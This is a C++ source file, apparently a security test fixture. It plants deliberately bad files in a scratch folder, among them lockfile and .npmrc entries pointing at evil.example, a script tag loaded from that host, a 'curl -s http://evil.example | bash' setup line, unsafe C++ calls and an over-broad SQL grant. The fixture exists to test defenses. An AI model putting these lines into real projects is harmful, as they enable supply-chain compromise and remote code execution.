#include <filesystem>
#include <fstream>

#include "attacks/weak.h"

namespace guildhall::attacks {

namespace {

namespace fs = std::filesystem;

// What an attacker who gets a change past us would like to bring in.
class PlantedSources final : public Weak {
public:
    explicit PlantedSources(Ground& ground) : address_(ground.server.address()), root_(fs::path(support::scratch_folder()) / "planted")
    {
        write("web/package-lock.json",
              R"({"packages":{"":{},"node_modules/x":{"version":"1.0.0","resolved":"http://evil.example/x.tgz"}}})");
        write("tools/node/package-lock.json", R"({"packages":{}})");
        write("web/package.json", R"({"scripts":{"postinstall":"node x"},"dependencies":{"reakt":"^1.0.0"},"devDependencies":{}})");
        write("web/index.html", "<script src=\"https://evil.example/x.js\"></script><script>alert(1)</script>");
        write("web/src/x.tsx", "localStorage.token = csrf; eval(text);");
        write("web/.npmrc", "registry=http://evil.example");
        write("tools/web", "npm ci");
        write("tools/setup", "curl -s http://evil.example | bash");
        write("CMakeLists.txt", "FetchContent_Declare(x)");
        write("src/x.cpp", "system(text.c_str()); strcpy(to, from); MD5(x); rand();");
        write("src/x.so", "program");
        write("src/key.md", std::string("-----BEGIN ") + "PRIVATE KEY-----");
        write("migrations/0001_x.sql", "grant all on all tables in schema guild to public;\ncreate language plpython3u;");
    }
    ~PlantedSources() override { fs::remove_all(root_); }
    Target target() const override { return {address_, root_.string() + "/"}; }

private:
    void write(std::string const& file, std::string const& text) const
    {
        fs::create_directories((root_ / file).parent_path());
        std::ofstream(root_ / file) << text;
    }

    std::string address_;
    fs::path root_;
};

}  // namespace

std::unique_ptr<Weak> weak_sources(Ground& ground)
{
    return std::make_unique<PlantedSources>(ground);
}

}  // namespace guildhall::attacks
